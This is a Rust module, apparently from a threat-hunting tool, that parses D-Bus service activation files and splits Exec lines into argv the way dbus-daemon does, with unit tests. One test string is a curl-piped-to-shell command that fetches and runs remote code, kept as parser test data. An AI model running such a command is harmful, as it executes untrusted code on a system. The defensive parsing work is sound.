//! The `.service` activation file: a key file whose `[D-BUS Service]` group
//! tells a bus which program to start for a name.
//!
//! [`parse`] takes bytes (the caller reads them safely, see
//! `sources::fs_safe`) and returns the keys a bus acts on, with dbus-daemon's
//! reading rules (`bus/desktop-file.c`): `#` comments, blank lines and
//! other groups are ignored, whitespace around `=` is dropped, and the
//! *first* of duplicate keys wins. [`split_exec`] turns an `Exec=` line into
//! the argv dbus-daemon would run (`_dbus_shell_parse_argv`), so a hunt sees
//! the real program behind `/bin/sh -c "…"` wrappers.
//!
//! Where dbus-daemon rejects a whole file for one bad line, this parser is
//! more forgiving: a hunter wants whatever the file says, so the line is
//! skipped and named in [`ServiceFile::problems`]. Bytes that are not
//! UTF-8 are kept as `\xNN` (`fs_safe::render`).
use crate::sources::fs_safe;

/// The group dbus-daemon reads.
const GROUP: &str = "D-BUS Service";

/// The keys of `[D-BUS Service]` that matter for activation, as written
/// (values trimmed, not unescaped).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ServiceFile {
    pub name: Option<String>,
    pub exec: Option<String>,
    pub user: Option<String>,
    pub systemd_service: Option<String>,
    pub assumed_apparmor_label: Option<String>,
    /// Lines a strict reader would refuse (no `=`, an empty key, not
    /// UTF-8), numbered from 1. dbus-daemon would refuse the whole file.
    pub problems: Vec<String>,
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ServiceFileError {
    #[error("no [D-BUS Service] group")]
    NoServiceGroup,
}

/// Why an `Exec=` line could not be split into an argv.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ExecError {
    #[error("Exec is empty")]
    Empty,
    #[error("Exec has an unterminated {0} quote")]
    UnterminatedQuote(char),
    #[error("Exec ends in a lone backslash")]
    TrailingBackslash,
}

/// Reads the `[D-BUS Service]` keys out of a service file's bytes. Fails
/// only when the group is missing, as a file without it activates nothing.
pub fn parse(bytes: &[u8]) -> Result<ServiceFile, ServiceFileError> {
    let mut out = ServiceFile::default();
    let mut in_group = false;
    let mut seen_group = false;
    for (n, raw) in bytes.split(|b| *b == b'\n').enumerate() {
        let raw = raw.strip_suffix(b"\r").unwrap_or(raw);
        let line = fs_safe::render(raw);
        if std::str::from_utf8(raw).is_err() {
            out.problems.push(format!("line {}: not UTF-8", n + 1));
        }
        let trimmed = line.trim();
        if trimmed.is_empty() || trimmed.starts_with('#') {
            continue;
        }
        if let Some(rest) = trimmed.strip_prefix('[') {
            // dbus-daemon keeps reading after a second group of the same
            // name as if it continued the first.
            in_group = rest.strip_suffix(']') == Some(GROUP);
            seen_group |= in_group;
            continue;
        }
        if !in_group {
            continue;
        }
        let Some((key, value)) = trimmed.split_once('=') else {
            out.problems.push(format!("line {}: no '='", n + 1));
            continue;
        };
        let key = key.trim_end();
        if key.is_empty() {
            out.problems.push(format!("line {}: empty key", n + 1));
            continue;
        }
        let slot = match key {
            "Name" => &mut out.name,
            "Exec" => &mut out.exec,
            "User" => &mut out.user,
            "SystemdService" => &mut out.systemd_service,
            "AssumedAppArmorLabel" => &mut out.assumed_apparmor_label,
            _ => continue,
        };
        if slot.is_none() {
            *slot = Some(value.trim_start().to_string());
        }
    }
    if seen_group {
        Ok(out)
    } else {
        Err(ServiceFileError::NoServiceGroup)
    }
}

/// Splits an `Exec=` value the way dbus-daemon does before it execs it
/// (`_dbus_shell_parse_argv`, the POSIX-shell subset from GLib): blanks
/// separate words; inside double quotes a backslash escapes only `"`, `\`,
/// `$`, `` ` `` and newline (elsewhere it stays); single quotes are literal;
/// outside quotes a backslash takes the next character literally and
/// backslash-newline joins lines. Quoted and bare parts of one word join;
/// `""` is an empty word. No variable, glob or comment expansion happens.
pub fn split_exec(exec: &str) -> Result<Vec<String>, ExecError> {
    #[derive(PartialEq)]
    enum Q {
        None,
        Single,
        Double,
    }
    let mut argv = Vec::new();
    let mut word = String::new();
    let mut in_word = false;
    let mut q = Q::None;
    let mut chars = exec.chars();
    while let Some(c) = chars.next() {
        match q {
            Q::Single => {
                if c == '\'' {
                    q = Q::None;
                } else {
                    word.push(c);
                }
            }
            Q::Double => match c {
                '"' => q = Q::None,
                '\\' => match chars.next() {
                    Some('\n') => {}
                    Some(n @ ('"' | '\\' | '$' | '`')) => word.push(n),
                    Some(n) => {
                        word.push('\\');
                        word.push(n);
                    }
                    None => return Err(ExecError::UnterminatedQuote('"')),
                },
                _ => word.push(c),
            },
            Q::None => match c {
                ' ' | '\t' | '\n' => {
                    if in_word {
                        argv.push(std::mem::take(&mut word));
                        in_word = false;
                    }
                }
                '\'' => {
                    q = Q::Single;
                    in_word = true;
                }
                '"' => {
                    q = Q::Double;
                    in_word = true;
                }
                '\\' => match chars.next() {
                    Some('\n') => {}
                    Some(n) => {
                        word.push(n);
                        in_word = true;
                    }
                    None => return Err(ExecError::TrailingBackslash),
                },
                _ => {
                    word.push(c);
                    in_word = true;
                }
            },
        }
    }
    match q {
        Q::Single => return Err(ExecError::UnterminatedQuote('\'')),
        Q::Double => return Err(ExecError::UnterminatedQuote('"')),
        Q::None => {}
    }
    if in_word {
        argv.push(word);
    }
    if argv.is_empty() {
        return Err(ExecError::Empty);
    }
    Ok(argv)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keys_first_wins_and_noise_ignored() {
        let f = parse(
            b"# comment\n\
[Other]\n\
Name=org.wrong\n\
\n\
[D-BUS Service]\n\
Name = org.example.Foo\r\n\
  # indented comment\n\
Exec=/usr/libexec/foo --bar\n\
Exec=/tmp/evil\n\
Name=org.second\n\
User=root\n\
SystemdService=foo.service\n\
AssumedAppArmorLabel=unconfined\n\
Unknown=x\n\
garbage line\n\
[Another]\n\
User=nobody\n",
        )
        .unwrap();
        assert_eq!(f.name.as_deref(), Some("org.example.Foo"));
        assert_eq!(f.exec.as_deref(), Some("/usr/libexec/foo --bar"));
        assert_eq!(f.user.as_deref(), Some("root"));
        assert_eq!(f.systemd_service.as_deref(), Some("foo.service"));
        assert_eq!(f.assumed_apparmor_label.as_deref(), Some("unconfined"));
        assert_eq!(f.problems, ["line 15: no '='"]);
    }

    #[test]
    fn missing_group_and_binary_garbage() {
        assert_eq!(
            parse(b"Name=x\nExec=/bin/true\n"),
            Err(ServiceFileError::NoServiceGroup)
        );
        assert_eq!(
            parse(b"\x7fELF\x02\x01\x01\0\0\0\xff\xfe"),
            Err(ServiceFileError::NoServiceGroup)
        );
        assert_eq!(parse(b""), Err(ServiceFileError::NoServiceGroup));
    }

    #[test]
    fn non_utf8_values_survive_as_escapes() {
        let f = parse(b"[D-BUS Service]\nName=a\nExec=/opt/caf\xe9 -x\n").unwrap();
        assert_eq!(f.exec.as_deref(), Some("/opt/caf\\xe9 -x"));
        assert_eq!(f.problems, ["line 3: not UTF-8"]);
    }

    #[test]
    fn split_like_dbus_daemon() {
        let s = |x: &str| split_exec(x).unwrap();
        assert_eq!(s("/usr/bin/foo  --a\tb"), ["/usr/bin/foo", "--a", "b"]);
        assert_eq!(
            s(r#"/bin/sh -c "curl http://x/\"p\" | sh; echo \$HOME \a""#),
            ["/bin/sh", "-c", r#"curl http://x/"p" | sh; echo $HOME \a"#]
        );
        assert_eq!(
            s(r#"/bin/sh -c 'a "b" \c'"#),
            ["/bin/sh", "-c", r#"a "b" \c"#]
        );
        assert_eq!(s(r"/opt/my\ prog x\\y"), ["/opt/my prog", r"x\y"]);
        assert_eq!(s(r#"a"b c"'d e'f"#), ["ab cd ef"]);
        assert_eq!(s(r#"x "" ''"#), ["x", "", ""]);
        assert_eq!(s("a \\\nb"), ["a", "b"]);
        assert_eq!(s("\"/path with/space\" arg"), ["/path with/space", "arg"]);
        assert_eq!(split_exec("  "), Err(ExecError::Empty));
        assert_eq!(split_exec("a 'b"), Err(ExecError::UnterminatedQuote('\'')));
        assert_eq!(split_exec("a \"b"), Err(ExecError::UnterminatedQuote('"')));
        assert_eq!(split_exec("a \\"), Err(ExecError::TrailingBackslash));
    }
}
